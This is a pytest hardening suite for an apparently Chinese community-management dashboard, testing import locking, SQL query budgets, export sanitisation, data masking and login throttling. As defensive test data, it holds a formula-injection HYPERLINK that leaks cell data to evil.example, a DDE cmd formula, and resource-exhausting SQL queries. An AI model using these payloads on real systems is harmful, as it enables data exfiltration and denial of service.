"""Hardening (issue 14): what a hostile or careless user sends must not take the service down, leak, or corrupt;
imports run while the dashboard serves. Every test here failed before its fix."""
from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from data import store, storefile
from tests import fixtures

ROOT = Path(__file__).resolve().parent.parent


def _cli(*args, **kw):
    return subprocess.run([sys.executable, str(ROOT / "cli.py"), *map(str, args)], capture_output=True, text=True,
                          cwd=ROOT, **kw)


def _count(db, table):
    con = storefile.open_reader(db)
    try:
        return con.execute(f"select count(*) from {table}").fetchall()[0][0]
    finally:
        con.close()


# --------------------------------------------------------------------------------------------- 2. imports while serving

READER = textwrap.dedent("""
    import sys, time
    sys.path.insert(0, {root!r})
    from data import storefile
    con = storefile.open_reader({db!r})
    cur = con.cursor()
    print('open', cur.execute('select count(*) from workers').fetchall()[0][0], flush=True)
    sys.stdin.readline()                      # hold the store open until told
    print('same', cur.execute('select count(*) from workers').fetchall()[0][0], flush=True)
    fresh = storefile.open_reader({db!r})
    print('fresh', fresh.execute('select count(*) from workers').fetchall()[0][0], flush=True)
""")


def test_import_succeeds_while_another_process_reads(tmp_path):
    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    reader = subprocess.Popen([sys.executable, "-c", READER.format(root=str(ROOT), db=str(db))],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert reader.stdout.readline().split() == ["open", "0"]
        out = _cli("ingest", "--db", db, "--kind", "workers", fixtures.write("workers", tmp_path / "w.csv"))
        assert out.returncode == 0, out.stderr
        assert "Traceback" not in out.stderr
        reader.stdin.write("\n")
        reader.stdin.flush()
        # the running reader finishes on the file it had; a new open sees the import
        assert reader.stdout.readline().split() == ["same", "0"]
        assert reader.stdout.readline().split() == ["fresh", "3"]
    finally:
        reader.kill()
        reader.wait()
    assert _count(db, "workers") == 3
    assert not list(tmp_path.glob("s.duckdb.import-*")) and not list(tmp_path.glob(".s.duckdb.reader-*"))


HOLDER = textwrap.dedent("""
    import sys
    sys.path.insert(0, {root!r})
    from data import storefile
    with storefile.writing({db!r}) as w:
        print('holding', flush=True)
        sys.stdin.readline()
        w.discard()
""")


def test_second_import_gets_a_chinese_message_and_its_own_exit_code(tmp_path):
    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    before = os.stat(db).st_mtime_ns
    holder = subprocess.Popen([sys.executable, "-c", HOLDER.format(root=str(ROOT), db=str(db))],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "holding"
        out = _cli("ingest", "--db", db, "--kind", "workers", fixtures.write("workers", tmp_path / "w.csv"))
        assert out.returncode == storefile.BUSY_EXIT == 3
        assert "Traceback" not in out.stderr and "另一个导入" in out.stderr
    finally:
        holder.stdin.write("\n")
        holder.stdin.flush()
        holder.wait()
    assert os.stat(db).st_mtime_ns == before
    assert _cli("ingest", "--db", db, "--kind", "workers", tmp_path / "w.csv").returncode == 0


def test_outside_writer_holding_the_file_is_busy_not_a_traceback(tmp_path):
    db = tmp_path / "s.duckdb"
    store.init(db)
    holder = subprocess.Popen([sys.executable, "-c", "import duckdb, sys; c = duckdb.connect(sys.argv[1]); "
                               "print('holding', flush=True); sys.stdin.readline()", str(db)],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        assert holder.stdout.readline().strip() == "holding"
        out = _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv"))
        assert out.returncode == 3 and "Traceback" not in out.stderr and "数据库文件正被其他程序" in out.stderr
    finally:
        holder.stdin.write("\n")
        holder.stdin.flush()
        holder.wait()


def test_refused_import_leaves_the_store_file_untouched(tmp_path):
    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    before = os.stat(db)
    bad = fixtures.write("workers", tmp_path / "w.csv", rows=[{**fixtures.WORKERS[0], "grid_id": "G99"}])
    time.sleep(0.01)
    assert _cli("ingest", "--db", db, "--kind", "workers", bad).returncode == 1
    after = os.stat(db)
    assert (after.st_ino, after.st_mtime_ns, after.st_size) == (before.st_ino, before.st_mtime_ns, before.st_size)


def test_dashboard_sees_an_import_at_the_next_query(tmp_path, monkeypatch):
    from ui import conn

    db = tmp_path / "s.duckdb"
    monkeypatch.setenv("GRIDGOV_DB", str(db))
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    held = conn.cursor()                     # a query in flight on the old file
    assert held.execute("select count(*) from workers").fetchall()[0][0] == 0
    out = _cli("ingest", "--db", db, "--kind", "workers", fixtures.write("workers", tmp_path / "w.csv"))
    assert out.returncode == 0, out.stderr
    assert conn.cursor().execute("select count(*) from workers").fetchall()[0][0] == 3
    assert held.execute("select count(*) from workers").fetchall()[0][0] == 0


# --------------------------------------------------------------------------------------------- 1. SQL tab budget

def _staff():
    from access import accounts

    return accounts.user_of(accounts.load(), "dongguan")


def _rss_mb() -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS"):
            return int(line.split()[1]) / 1024
    return 0.0


@pytest.mark.parametrize("sql,reason", [
    # the issue's memory hog: 100 M list items (≈ 800 MB) — refused by the worker's memory budget in ≈ 1 s
    ("select count(*) from (select unnest(range(100000000)))", "内存超过上限"),
    # a long IN list (1 M items in the issue, 3,000 here): refused before anything parses it
    ("select count(*) from events where event_id in (" + ",".join(f"'E{i:07d}'" for i in range(3000)) + ")",
     "查询语句过长"),
    # 400 nested subqueries: a RecursionError on the page before
    ("select * from " + "(select * from " * 399 + "events" + ") t" * 399, "嵌套层数过多"),
])
def test_sql_budget_refuses_hostile_queries_quickly(demo_db, sql, reason):
    from metrics import explore

    rss0, t0 = _rss_mb(), time.monotonic()
    with pytest.raises(explore.QueryRefused) as e:
        explore.run_sql(demo_db, sql, user=_staff())
    assert reason in str(e.value)
    assert time.monotonic() - t0 < 12
    assert _rss_mb() - rss0 < 200            # the work happened in the worker, not in this (the server's) process


def test_sql_budget_wall_clock_kills_the_worker(demo_db):
    """The parent's kill covers everything the worker does, parsing included: no start-up grace, 0.2 s."""
    from access import sqlworker

    t0 = time.monotonic()
    with pytest.raises(sqlworker.Refused) as e:
        sqlworker.run(demo_db, "select count(*) from events", _staff(), seconds=0.2, budget={"startup_grace": 0})
    assert "已中止" in str(e.value) and time.monotonic() - t0 < 3


def test_sql_budget_caps_the_result_size(demo_db):
    from access import sqlworker

    with pytest.raises(sqlworker.Refused) as e:
        sqlworker.run(demo_db, "select * from events", _staff(), budget={"result_mb": 0.01})
    assert "结果过大" in str(e.value)


def test_sql_budget_still_answers_ordinary_queries(demo_db):
    from metrics import explore

    df, truncated = explore.run_sql(demo_db, "select count(*) as n from events e join grids g using (grid_id) "
                                             "where g.street = '中街街道'", user=_staff())
    assert df["n"].tolist() == [0] and not truncated          # scoped: 东关 staff see no 中街 events


# --------------------------------------------------------------------------------------------- 5. statistics functions

def test_stats_function_is_refused_for_street_staff(demo_db):
    from metrics import explore

    with pytest.raises(explore.QueryRefused) as e:
        explore.run_sql(demo_db, "select stats(amount_yuan) from relief", user=_staff())
    assert "不允许使用 stats" in str(e.value)


# --------------------------------------------------------------------------------------------- 3. exports

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"详情")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def test_exports_neutralise_formula_cells(tmp_path):
    import io

    import openpyxl
    import pandas as pd

    from ui.export import to_csv, to_xlsx

    df = pd.DataFrame({"描述": FORMULAS + ["正常文字"], "金额": [-5.0, 1, 2, 3, 4, 5, 6, 7],
                       "=危险列名": ["x"] * 8})
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(df, "明细"))).active
    assert [c.value for c in ws[1]] == ["描述", "金额", "'=危险列名"]
    cells = [ws.cell(row=r, column=1) for r in range(2, 10)]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value[:2] for c in cells[:5]] == ["'=", "'=", "'+", "'-", "'@"]
    assert cells[5].value.startswith("'\t") and cells[6].value.startswith("'") and cells[7].value == "正常文字"
    assert ws.cell(row=2, column=2).value == -5 and ws.cell(row=2, column=2).data_type == "n"   # numbers stay numbers
    (tmp_path / "x.csv").write_bytes(to_csv(df))
    back = pd.read_csv(tmp_path / "x.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert all(v.startswith("'") for v in back["描述"][:7]) and back["描述"][7] == "正常文字"
    assert back.columns[2] == "'=危险列名"


def test_import_problem_list_neutralises_formulas(tmp_path):
    import pandas as pd

    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    bad = fixtures.write("workers", tmp_path / "w.csv", rows=[{**fixtures.WORKERS[0], "grid_id": "=cmd|' /C calc'!A0"}])
    assert _cli("ingest", "--db", db, "--kind", "workers", bad, "--report", tmp_path / "r.csv").returncode == 1
    report = pd.read_csv(tmp_path / "r.csv", encoding="utf-8-sig", dtype=str)
    assert report["值"].tolist() == ["'=cmd|' /C calc'!A0"]


# --------------------------------------------------------------------------------------------- 4. masking

MASK_CASES = [
    ("电话13812345678", "电话138****5678"),
    ("电话138-1234-5678", "电话138****5678"),
    ("电话138 1234 5678", "电话138****5678"),
    ("电话１３８１２３４５６７８", "电话138****5678"),
    ("电话+86-138-1234-5678", "电话138****5678"),
    ("电话+86 13812345678", "电话138****5678"),
    ("身份证620802199001011234", "身份证6208**********1234"),
    ("身份证620802 19900101 1234", "身份证6208**********1234"),
    ("身份证62080219900101123X", "身份证6208**********123X"),
    ("身份证６２０８０２１９９００１０１１２３ｘ", "身份证6208**********123x"),
    ("老身份证620802900101123", "老身份证6208********123"),
    ("座机0933-8212345", "座机0933-****2345"),
    ("座机(0933)8212345", "座机0933-****2345"),
    ("座机010-12345678", "座机010-****5678"),
    ("3号楼2单元，2025-09-01发现", "3号楼2单元，2025-09-01发现"),
]


@pytest.fixture
def masked_store(tmp_path):
    """A store whose event descriptions are the real formats above, one event each, all in 东关 (grid G01)."""
    db = tmp_path / "m.duckdb"
    rows = [{**fixtures.EVENTS[0], "event_id": f"M{i:02d}", "description": text} for i, (text, _) in
            enumerate(MASK_CASES)]
    for kind, r in (("grids", None), ("workers", None), ("events", rows)):
        out = _cli("ingest", "--db", db, "--kind", kind, fixtures.write(kind, tmp_path / f"{kind}.csv", rows=r))
        assert out.returncode == 0, out.stderr
    return db


def test_free_text_masking_in_every_output_path(masked_store):
    import io
    from datetime import date

    import pandas as pd

    from metrics import explore
    from metrics.compute import Filters
    from ui.export import to_csv, to_xlsx

    expected = [m for _, m in MASK_CASES]
    staff = _staff()
    df, _ = explore.run_sql(masked_store, "select description from events order by event_id", user=staff)
    assert df["description"].tolist() == expected                         # the SQL tab
    con = storefile.open_reader(masked_store)
    recs, _ = explore.records(con, "events", Filters(date(2025, 1, 1), date(2025, 12, 31), scope=staff.scope),
                              personal="masked", limit=100)
    con.close()
    got = recs.sort_values("event_id")["description"].tolist()
    assert got == expected                                                # the explorer's record list
    back = pd.read_excel(io.BytesIO(to_xlsx(recs, "明细")), dtype=str).sort_values("event_id")
    assert back["description"].tolist() == expected                      # its Excel export
    back = pd.read_csv(io.BytesIO(to_csv(recs)), encoding="utf-8-sig", dtype=str).sort_values("event_id")
    assert back["description"].tolist() == expected                      # its CSV export


# --------------------------------------------------------------------------------------------- 6, 7. login

def _cfg(tmp_path, demo_mode: bool):
    from access import accounts

    text = (ROOT / "data" / "accounts.toml").read_text(encoding="utf-8")
    text = text.replace("demo_mode = true", f"demo_mode = {'true' if demo_mode else 'false'}")
    p = tmp_path / "accounts.toml"
    p.write_text(text, encoding="utf-8")
    return accounts.load(p), p


def test_demo_accounts_do_not_log_in_outside_demo_mode(tmp_path, demo_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from access import accounts

    cfg, path = _cfg(tmp_path, demo_mode=False)
    assert accounts.verify(cfg, "admin", cfg.demo_passwords["admin"]) is None
    (tmp_path / "on").mkdir()
    on, _ = _cfg(tmp_path / "on", demo_mode=True)
    assert accounts.verify(on, "admin", on.demo_passwords["admin"]) is not None
    monkeypatch.setenv("GRIDGOV_ACCOUNTS", str(path))
    monkeypatch.setenv("GRIDGOV_DB", str(demo_db))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.text_input(key="login_user").set_value("admin")
    at.text_input(key="login_password").set_value(cfg.demo_passwords["admin"])
    at.button[0].click().run()
    assert any("演示模式已关闭" in w.value for w in at.warning) and not at.metric
    assert not any("admin-demo" in str(d.value.to_csv()) for d in at.dataframe)     # passwords not printed


def test_login_throttled_per_client_across_accounts(tmp_path):
    from access import accounts, audit

    cfg, _ = _cfg(tmp_path, demo_mode=True)
    db = tmp_path / "s.duckdb"
    names = list(cfg.accounts)
    tries = 0
    while tries < cfg.client_max_failures:                 # a few wrong guesses on every account, from one client
        for u in names:
            assert accounts.throttled(cfg, u, "10.0.0.9", store_path=db) is None
            audit.record("login_failed", u, None, {"client": "10.0.0.9"}, False, store_path=db)
            tries += 1
            if tries == cfg.client_max_failures:
                break
    assert "本机登录失败次数过多" in accounts.throttled(cfg, "analyst", "10.0.0.9", store_path=db)
    assert accounts.throttled(cfg, "analyst", "10.0.0.7", store_path=db) is None     # others are not affected


def test_nobody_can_lock_the_admin_out_for_good(tmp_path):
    from access import accounts, audit

    cfg, _ = _cfg(tmp_path, demo_mode=True)
    db = tmp_path / "s.duckdb"
    for i in range(cfg.account_max_failures):               # an attacker on many addresses
        audit.record("login_failed", "admin", None, {"client": f"10.1.{i // 4}.{i}"}, False, store_path=db)
    assert "python cli.py unlock --user admin" in accounts.throttled(cfg, "admin", "192.168.1.5", store_path=db)
    out = _cli("unlock", "--user", "admin", "--db", db)
    assert out.returncode == 0 and "已解除" in out.stdout
    assert accounts.throttled(cfg, "admin", "192.168.1.5", store_path=db) is None      # the admin's own machine
    for _ in range(cfg.max_failures):                         # the attacker goes on: only their client is held
        audit.record("login_failed", "admin", None, {"client": "10.9.9.9"}, False, store_path=db)
    assert "已临时锁定" in accounts.throttled(cfg, "admin", "10.9.9.9", store_path=db)
    assert accounts.throttled(cfg, "admin", "192.168.1.5", store_path=db) is None
    assert _cli("unlock", "--user", "nobody", "--db", db).returncode == 2


# --------------------------------------------------------------------------------------------- 10. rules

def _id_with_check(first17: str) -> str:
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return first17 + "10X98765432"[sum(int(d) * w for d, w in zip(first17, weights)) % 11]


@pytest.fixture
def base(con, tmp_path):
    """Grids and workers of tests/fixtures.py in a fresh store."""
    from data import ingest

    for kind in ("grids", "workers"):
        assert ingest.ingest_files(con, kind, [fixtures.write(kind, tmp_path / f"{kind}.csv")])[0].stored
    return con


E = {e["event_id"]: e for e in fixtures.EVENTS}
R = {r["case_id"]: r for r in fixtures.RELIEF}


@pytest.mark.parametrize("kind,row,column,fragment", [
    ("events", {**E["E02"], "tier": "一般"}, "tier", "纠纷等级只适用于矛盾纠纷"),                 # a hazard with a tier
    ("events", {**E["E01"], "outcome": None}, "outcome", "已结案的矛盾纠纷须填写办理结果"),
    ("events", {**E["E01"], "due_at": "2025-08-31 09:00"}, "due_at", "办理时限早于上报时间"),
    ("events", {**E["E02"], "satisfaction": "满意"}, "satisfaction", "未结案的事件不能有满意度评价"),
    ("relief", {**R["R01"], "id_number": _id_with_check("62080219900230123")}, "id_number", "出生日期不存在"),
    ("relief", {**R["R01"], "id_number": _id_with_check("62080220991231123")}, "id_number", "出生日期不存在"),
    ("relief", {**R["R01"], "amount_yuan": "1500.555"}, "amount_yuan", "金额最多两位小数"),
    ("events", {**E["E01"], "event_id": "E\u200b01"}, "event_id", "看不见的字符"),
    ("events", {**E["E01"], "grid_id": "G01\ufeff"}, "grid_id", "看不见的字符"),
    ("relief", {**R["R01"], "case_id": "R\x0001"}, "case_id", "看不见的字符"),
])
def test_rules_refuse_inconsistent_rows(base, tmp_path, kind, row, column, fragment):
    from data import ingest

    before = store.content_checksum(base, kind)
    res = ingest.ingest_files(base, kind, [fixtures.write(kind, tmp_path / "x.csv", rows=[row])])[0]
    assert not res.stored
    hits = res.errors[res.errors["message"].str.contains(fragment)]
    assert hits[["row", "column"]].values.tolist() == [[2, column]], res.errors.to_string()
    assert store.content_checksum(base, kind) == before


def test_amounts_with_two_decimals_are_stored_exactly(base, tmp_path):
    from data import ingest

    rows = [{**R["R01"], "amount_yuan": "1500.50"}, {**R["R02"], "amount_yuan": "0.07"}]
    assert ingest.ingest_files(base, "relief", [fixtures.write("relief", tmp_path / "r.csv", rows=rows)])[0].stored
    got = base.execute("select case_id, amount_yuan::varchar from relief order by 1").fetchall()
    assert got == [("R01", "1500.50"), ("R02", "0.07")]


def test_same_key_in_two_files_of_one_import_names_both(base, tmp_path):
    from data import ingest

    a = fixtures.write("events", tmp_path / "a.csv", rows=[E["E01"], E["E02"]])
    b = fixtures.write("events", tmp_path / "b.csv", rows=[E["E03"], {**E["E02"], "outcome": "已整改"}])
    res = ingest.ingest_files(base, "events", [a, b])
    assert not any(r.stored for r in res)
    assert res[1].errors[["row", "column", "value", "message"]].values.tolist() == [
        [3, "事件编号", "E02", "事件编号 与同一次导入的文件 a.csv 第 3 行重复"]]
    assert base.execute("select count(*) from events").fetchall()[0][0] == 0


# --------------------------------------------------------------------------------------------- 8. GeoJSON and tracks

SQUARE = [[106.68, 35.54], [106.69, 35.54], [106.69, 35.55], [106.68, 35.55], [106.68, 35.54]]


def _feature(coords_, grid="G01", props=None):
    return {"type": "Feature", "properties": props if props is not None else {"grid_id": grid},
            "geometry": {"type": "Polygon", "coordinates": [coords_]}}


def _fc(*features):
    return {"type": "FeatureCollection", "features": list(features)}


@pytest.mark.parametrize("doc,fragment", [
    ("a string", "顶层应为 FeatureCollection"),
    ({"type": "FeatureCollection", "features": None}, "features 应为要素数组"),
    (_fc("a string feature"), "要素应为 Feature 对象"),
    (_fc(_feature(SQUARE, props=["G01"])), "properties 应为对象"),
    (_fc(_feature(SQUARE, props={"grid_id": ["G01"]})), "缺少网格编码属性"),
    (_fc(_feature([[1e308, 35.54], [-1e308, 35.54], [106.69, 35.55], [1e308, 35.54]])), "坐标超出范围"),
    (_fc(_feature([[y, x] for x, y in SQUARE])), "经度和纬度似乎颠倒了"),
    (_fc(_feature([[11875000.0, 4235000.0], [11876000.0, 4235000.0], [11876000.0, 4236000.0],
                   [11875000.0, 4235000.0]])), "EPSG:3857"),
    (_fc(_feature([[106.68, 35.54], [106.69, 35.55], [106.69, 35.54], [106.68, 35.55], [106.68, 35.54]])),
     "边界自相交"),
    (_fc(_feature(SQUARE), _feature(SQUARE)), "同一网格在第 1 个要素已有边界"),
])
def test_bad_geojson_is_refused_cleanly(tmp_path, doc, fragment):
    import json

    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    before = os.stat(db).st_mtime_ns
    (tmp_path / "b.geojson").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    out = _cli("ingest", "--db", db, "--kind", "boundaries", tmp_path / "b.geojson")
    assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr
    assert fragment in out.stderr, out.stderr
    assert os.stat(db).st_mtime_ns == before


@pytest.mark.parametrize("track,fragment", [
    ("106.680,35.540;nan,35.541", "NaN"),
    ("106.680,35.540;inf,35.541", "NaN 或无穷大"),
    ("2.35,48.85;2.36,48.86", "坐标超出范围"),
    ("35.540,106.680;35.541,106.681", "颠倒"),
])
def test_bad_patrol_tracks_are_refused(base, tmp_path, track, fragment):
    from data import ingest

    row = {**fixtures.PATROLS[0], "track": track}
    res = ingest.ingest_files(base, "patrols", [fixtures.write("patrols", tmp_path / "p.csv", rows=[row])])[0]
    assert not res.stored
    assert res.errors[["row", "column"]].values.tolist() == [[2, "track"]] and fragment in res.errors["message"][0]


def test_map_page_survives_bad_stored_geometry(demo_db, tmp_path, monkeypatch):
    """A store written before these checks may hold ±1e308 or metres: the map skips those shapes."""
    import shutil

    from streamlit.testing.v1 import AppTest

    db = tmp_path / "old.duckdb"
    shutil.copy(demo_db, db)
    import duckdb

    con = duckdb.connect(str(db))
    gid = con.execute("select grid_id from grids order by grid_id limit 1").fetchall()[0][0]
    # grids is a view of the current versions (type-2 history): write the current version's row
    con.execute("update grid_versions set boundary = ? where grid_id = ? and valid_to is null",
                ['{"type":"Polygon","coordinates":[[[1e308,35.5],[-1e308,35.5],[106.7,1e308],[1e308,35.5]]]}', gid])
    con.execute("update grid_versions set boundary = ? where valid_to is null and grid_id in "
                "(select grid_id from grids order by grid_id limit 1 offset 1)",
                ['{"type":"Polygon","coordinates":[[[11875000,4235000],[11876000,4235000],'
                 '[11876000,4236000],[11875000,4235000]]]}'])
    con.close()
    monkeypatch.setenv("GRIDGOV_DB", str(db))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["_auth"] = {"username": "admin", "last": time.time()}
    at.run()
    at.switch_page("app_pages/map.py").run()
    assert not at.exception, [e.message for e in at.exception]
    assert at.get("deck_gl_json_chart")


# --------------------------------------------------------------------------------------------- 9, 11. messages

def _bad_files(tmp_path) -> dict:
    """The files of the issue: each must be refused with a Chinese reason, no English, no path, no traceback."""
    good_xlsx = fixtures.write("grids", tmp_path / "good.xlsx", "xlsx").read_bytes()
    files = {
        "truncated.xlsx": good_xlsx[: len(good_xlsx) // 2],
        "csv_named.xls": fixtures.frame("grids").to_csv(index=False).encode("utf-8"),
        "mixed.csv": fixtures.frame("grids", True).to_csv(index=False).encode("utf-8")
                     + "G09,九网格,东关街道".encode("gbk") + b",x,1\n",
    }
    big5 = fixtures.frame("grids")
    big5["grid_name"], big5["street"], big5["community"], big5["district"] = "東大街網格", "東關街道", "東大街社區", "崆峒區"
    files["big5.csv"] = big5.to_csv(index=False).encode("big5")
    header = "grid_id,grid_name,street,community,households\n"
    files["huge_cell.csv"] = (header + "G01,a,东关街道,东大街社区,3\nG02,b,东关街道,东大街社区,4\nG03,"
                              + "x" * 2_500_000 + ",东关街道,东大街社区,5\n").encode("utf-8")
    files["open_quote.csv"] = (header + 'G01,"abc,东关街道,东大街社区,3\nG02,x,东关街道,东大街社区,4\n').encode("utf-8")
    return files


EXPECTED_REASON = {
    "truncated.xlsx": "不是有效的 XLSX 文件",
    "csv_named.xls": "内容却不是 Excel 工作簿",
    "mixed.csv": "文件编码混杂",
    "big5.csv": "Big5",
    "huge_cell.csv": "CSV 第 4 行无法读取",
    "open_quote.csv": "引号不配对",
}


def test_cli_refusals_are_chinese_without_paths(tmp_path):
    import re

    db = tmp_path / "s.duckdb"
    for name, content in _bad_files(tmp_path).items():
        (tmp_path / name).write_bytes(content)
        out = _cli("ingest", "--db", db, "--kind", "grids", tmp_path / name)
        assert out.returncode == 1, (name, out.stderr)
        assert EXPECTED_REASON[name] in out.stderr, (name, out.stderr)
        assert "Traceback" not in out.stderr and str(tmp_path) not in out.stderr + out.stdout
        english = re.findall(r"Error|error|Invalid|zip file|cannot be determined", out.stderr)
        assert not english, (name, out.stderr)
    assert _count(db, "grids") == 0                       # the Big5 file was not stored as mojibake


def test_import_page_refuses_like_the_cli(demo_db, tmp_path, monkeypatch):
    import shutil

    from streamlit.testing.v1 import AppTest

    db = tmp_path / "page.duckdb"
    shutil.copy(demo_db, db)
    monkeypatch.setenv("GRIDGOV_DB", str(db))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["_auth"] = {"username": "admin", "last": time.time()}
    at.run()
    at.switch_page("app_pages/data_import.py").run()
    for name in ("truncated.xlsx", "csv_named.xls", "mixed.csv"):
        content = _bad_files(tmp_path)[name]
        at.file_uploader(key="upload").set_value((name, content, "application/octet-stream")).run()
        assert not at.exception, (name, [e.message for e in at.exception])
        assert any(EXPECTED_REASON[name] in e.value for e in at.error), (name, [e.value for e in at.error])


# --------------------------------------------------------------------------------------------- adversarial: kills

def test_killed_import_leaves_the_store_whole_and_is_cleaned_up(tmp_path):
    """kill -9 an import once its copy exists: the store is as it was; the next import removes the leftovers
    (the copy, and hard links of dead readers that would pin an old file)."""
    import signal

    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    before = os.stat(db)
    rows = [{**fixtures.WORKERS[0], "worker_id": f"W{i:06d}"} for i in range(20000)]
    proc = subprocess.Popen([sys.executable, str(ROOT / "cli.py"), "ingest", "--db", str(db), "--kind", "workers",
                             str(fixtures.write("workers", tmp_path / "w.csv", rows=rows))], cwd=ROOT,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    copy = tmp_path / f"s.duckdb.import-{proc.pid}"
    deadline = time.monotonic() + 60
    while not copy.exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert copy.exists()                       # killed mid-import, its copy left behind
    after = os.stat(db)
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    assert _count(db, "workers") == 0 and _count(db, "grids") == 4
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".s.duckdb.reader-{dead.pid}-0123456789ab"
    live = tmp_path / f".s.duckdb.reader-{os.getpid()}-0123456789ab"
    os.link(db, stale)
    os.link(db, live)
    out = _cli("ingest", "--db", db, "--kind", "workers", fixtures.write("workers", tmp_path / "w3.csv"))
    assert out.returncode == 0, out.stderr
    assert not copy.exists() and not stale.exists() and live.exists()
    assert _count(db, "workers") == 3


def test_import_page_stores_through_the_copy_and_shows_it(demo_db, tmp_path, monkeypatch):
    import shutil

    from streamlit.testing.v1 import AppTest

    db = tmp_path / "page.duckdb"
    shutil.copy(demo_db, db)
    monkeypatch.setenv("GRIDGOV_DB", str(db))
    grids_before = _count(db, "grids")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["_auth"] = {"username": "admin", "last": time.time()}
    at.run()
    at.switch_page("app_pages/data_import.py").run()
    row = {**fixtures.GRIDS[0], "grid_id": "NEW-01"}
    content = fixtures.frame("grids", rows=[row]).to_csv(index=False).encode("utf-8")
    at.file_uploader(key="upload").set_value(("new.csv", content, "text/csv")).run()
    at.button(key="imp_commit").click().run()
    assert not at.exception, [e.message for e in at.exception]
    assert any("入库 1 行" in s.value for s in at.success), [s.value for s in at.success] + [e.value for e in at.error]
    assert _count(db, "grids") == grids_before + 1
    assert not list(tmp_path.glob("page.duckdb.import-*"))


def test_audit_write_waits_for_another_process_holding_the_log(tmp_path):
    """The CLI's unlock and a login write the same audit file from two processes: the second waits, no traceback."""
    from access import audit

    db = tmp_path / "s.duckdb"
    audit.record("login_failed", "admin", None, {"client": "x"}, False, store_path=db)
    holder = subprocess.Popen([sys.executable, "-c", "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); "
                               "print('holding', flush=True); time.sleep(1.0); c.close()",
                               str(audit.audit_path(db))], stdout=subprocess.PIPE, text=True, cwd=ROOT)
    assert holder.stdout.readline().strip() == "holding"
    audit.record("login_failed", "admin", None, {"client": "y"}, False, store_path=db)
    holder.wait()
    assert len(audit.entries(10, store_path=db)) == 2
